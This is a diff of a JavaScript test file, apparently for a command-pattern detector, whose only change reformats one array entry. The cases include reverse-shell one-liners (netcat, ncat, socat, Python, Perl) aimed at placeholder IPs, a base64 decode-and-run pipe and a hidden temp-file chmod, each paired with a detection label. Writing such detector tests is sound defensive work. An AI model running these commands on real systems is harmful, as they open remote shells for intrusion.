@@ -13,7 +13,10 @@ describe('command patterns', () => {
     ['nc -e /bin/sh 203.0.113.9 4444', 'reverse-shell-netcat'],
     ['ncat 203.0.113.9 4444 --sh-exec "bash"', 'reverse-shell-netcat'],
     ['socat tcp:203.0.113.9:4444 exec:/bin/bash,pty', 'reverse-shell-netcat'],
-    [`python3 -c import socket,os,pty;s=socket.socket();s.connect(("1.2.3.4",1));pty.spawn("/bin/sh")`, 'reverse-shell-script'],
+    [
+      `python3 -c import socket,os,pty;s=socket.socket();s.connect(("1.2.3.4",1));pty.spawn("/bin/sh")`,
+      'reverse-shell-script',
+    ],
     [`perl -e use Socket;socket(S,PF_INET,SOCK_STREAM,0);exec("/bin/sh -i")`, 'reverse-shell-script'],
     ['bash -c echo aWQK | base64 -d | sh', 'decode-and-run'],
     ['chmod +x /tmp/.x', 'make-temporary-executable'],
